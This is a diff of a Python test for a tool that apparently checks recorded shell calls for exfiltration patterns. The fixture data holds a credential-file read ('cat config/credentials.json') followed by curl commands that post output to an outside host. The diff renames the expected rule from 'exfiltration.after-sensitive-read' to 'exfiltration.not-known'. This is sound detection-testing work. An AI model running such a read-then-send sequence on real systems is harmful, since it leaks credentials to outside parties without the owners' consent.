@@ -41,15 +41,13 @@ def test_what_a_candidate_would_have_said_stands_beside_what_is_in_force(recordi
 
 def test_what_a_session_did_before_a_call_is_known_from_its_record(recording: Recording) -> None:
     recording.call("cat config/credentials.json")
-    recording.call("curl -d x=1 https://in.example.net")
-    recording.call("curl -d x=1 https://in.example.net", ts="2026-11-20T10:00:01Z")
+    recording.call("./report | curl -d @- https://in.example.net")
+    recording.call("./report | curl -d @- https://in.example.net", ts="2026-11-20T10:00:01Z")
     asked = {one.step.partition(":")[2]: one.rules for one in hold_against_record(recording.home).examples}
-    assert any("exfiltration.after-sensitive-read" in rules for rules in asked.values())
+    assert any("exfiltration.not-known" in rules for rules in asked.values())
     later = hold_against_record(recording.home, since="2026-11-20T10:00:00.5Z")
     assert later.calls == 1
-    assert [one.rules for one in later.examples] == [("exfiltration.after-sensitive-read",)], (
-        "what went before still counts"
-    )
+    assert [one.rules for one in later.examples] == [("exfiltration.not-known",)], "what went before still counts"
 
 
 def test_only_calls_since_a_time_are_looked_at(recording: Recording) -> None:
